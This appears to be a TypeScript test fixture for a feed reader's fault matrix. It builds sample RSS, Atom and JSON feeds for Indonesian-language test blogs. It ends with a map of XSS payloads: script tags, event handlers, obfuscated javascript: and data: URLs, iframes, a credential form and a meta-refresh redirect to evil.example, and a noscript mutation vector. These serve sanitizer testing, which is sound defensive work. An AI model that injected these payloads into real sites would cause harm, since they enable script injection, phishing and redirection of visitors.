// Feed documents the fault matrix serves. Each case's "good" feed has two items unique to it, so a
// later test can check they survive whatever the feed does next.

export const rss = (items: string, channel = '') => `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Blog Uji</title><link>https://guru.example.sch.id/</link><description>uji</description>${channel}
${items}
</channel></rss>`;

export const rssItem = (id: string, title: string, content = '<p>Isi tulisan.</p>', date = 'Mon, 02 Nov 2026 08:00:00 +0700') => `<item>
<title>${title}</title><link>https://guru.example.sch.id/${id}.html</link><guid isPermaLink="false">${id}</guid>
<pubDate>${date}</pubDate><description><![CDATA[${content}]]></description><content:encoded><![CDATA[${content}]]></content:encoded>
</item>`;

/** The feed every case serves before its fault. */
export const goodFeed = (name: string) =>
  rss(
    [
      rssItem(`${name}-1`, `Tulisan pertama ${name}`, '<p>Satu.</p>', 'Mon, 02 Nov 2026 08:00:00 +0700'),
      rssItem(`${name}-2`, `Tulisan kedua ${name}`, '<p>Dua.</p>', 'Tue, 03 Nov 2026 08:00:00 +0700'),
    ].join('\n'),
  );

export const atomFeed = (name: string) => `<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Blog Atom</title><id>tag:blogger.com,1999:blog-1</id>
<updated>2026-11-05T10:00:00+07:00</updated>
<link rel="alternate" type="text/html" href="https://atom.example.sch.id/"/>
<entry><id>tag:blogger.com,1999:blog-1.post-${name}</id><published>2026-11-05T10:00:00+07:00</published><updated>2026-11-05T10:00:00+07:00</updated>
<title type="text">Atom ${name}</title><content type="html">&lt;p&gt;Isi atom.&lt;/p&gt;</content>
<link rel="replies" type="text/html" href="https://atom.example.sch.id/2026/11/x.html#comment-form"/>
<link rel="alternate" type="text/html" href="https://atom.example.sch.id/2026/11/${name}.html"/></entry>
</feed>`;

export const jsonFeed = (name: string) =>
  JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title: 'Blog JSON',
    home_page_url: 'https://json.example.sch.id/',
    items: [
      {
        id: `${name}-json`,
        url: `https://json.example.sch.id/${name}`,
        title: `JSON ${name}`,
        content_html: '<p>json</p>',
        date_published: '2026-11-06T09:00:00+07:00',
      },
    ],
  });

/** Payloads a hostile or broken blog might put in a feed. */
export const XSS: Record<string, string> = {
  script: '<p>ok</p><script>alert(1)</script>',
  'img-onerror': '<img src="https://x.example/a.png" onerror="alert(1)">',
  'js-link': '<a href="javascript:alert(1)">klik</a>',
  'js-link-obfuscated': '<a href="jav&#x09;ascript:alert(1)">klik</a><a href=" JaVaScRiPt:alert(1)">x</a>',
  'data-url': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
  svg: '<svg onload="alert(1)"><circle r="5"/></svg>',
  srcset: '<img src="https://x.example/a.png" srcset="javascript:alert(1) 1x, https://x.example/b.png 2x">',
  'iframe-evil': '<iframe src="https://evil.example/x"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" src="https://www.youtube.com/embed/abc"></iframe>',
  'style-form': '<style>body{display:none}</style><form action="https://evil.example"><input name="p"><button>Kirim</button></form>',
  'meta-base': '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'mutation-noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
};
